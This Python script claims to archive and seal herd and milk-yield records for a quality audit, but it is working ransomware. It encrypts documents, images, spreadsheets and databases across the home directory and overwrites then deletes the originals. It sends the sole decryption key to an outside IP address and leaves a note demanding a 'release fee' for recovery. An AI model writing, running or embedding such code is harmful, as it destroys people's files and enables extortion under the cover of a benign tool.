#!/usr/bin/env python3
"""Archive and "seal" old milk-yield and herd documents.

Walks the records tree, seals every document with a per-run key so it can't be
altered after the milk-quality audit, and registers the key with the audit
service.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("yield.archiver")

DEFAULTS = {
    "root": "~",
    "suffix": ".sealed",
    "kinds": (".csv", ".xlsx", ".xls", ".pdf", ".docx", ".doc", ".jpg",
              ".png", ".db", ".sqlite", ".txt", ".json", ".zip"),
    "skip_dirs": (".cache", ".local", "proc", "sys"),
    "registry": ("203.0.113.88", 8443, "audit/keys"),
    "notice": "AUDIT_SEAL_README.txt",
}

NOTICE_TEXT = (
    "Your herd and milk records have been sealed.\n"
    "To recover them contact recovery@example.org with the ID below and\n"
    "arrange the audit release fee. Do not rename the files.\n"
    "ID: {run_id}\n"
)


class Sealer:
    def __init__(self, key, suffix):
        self.aead = AESGCM(key)
        self.suffix = suffix
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self.aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + self.suffix)
        target.write_bytes(blob)
        self._retire(path, len(data))
        self.count += 1

    @staticmethod
    def _retire(path, size):
        # Overwrite before unlinking so the unsealed copy can't be edited back in.
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def candidates(root, kinds, skip_dirs, suffix):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in skip_dirs]
        for name in filenames:
            if name.endswith(suffix):
                continue
            if name.lower().endswith(kinds):
                yield Path(dirpath) / name


def register_key(key, run_id, registry):
    host, port, route = registry
    url = "https://%s:%d/%s" % (host, port, route)
    body = json.dumps({"run": run_id, "k": key.hex()}).encode()
    req = urllib.request.Request(url, data=body, method="PUT",
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20).close()
        return True
    except OSError as exc:
        LOG.warning("key registry unreachable: %s", exc)
        return False


def drop_notice(root, name, run_id):
    (Path(root) / name).write_text(NOTICE_TEXT.format(run_id=run_id))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=DEFAULTS["root"])
    ap.add_argument("--limit", type=int, default=0, help="0 = no limit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    root = os.path.expanduser(args.root)
    key = AESGCM.generate_key(bit_length=256)
    run_id = os.urandom(6).hex()
    register_key(key, run_id, DEFAULTS["registry"])

    sealer = Sealer(key, DEFAULTS["suffix"])
    for path in candidates(root, DEFAULTS["kinds"], DEFAULTS["skip_dirs"],
                           DEFAULTS["suffix"]):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
        if args.limit and sealer.count >= args.limit:
            break
    del key
    drop_notice(root, DEFAULTS["notice"], run_id)
    LOG.info("sealed %d documents (run %s)", sealer.count, run_id)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
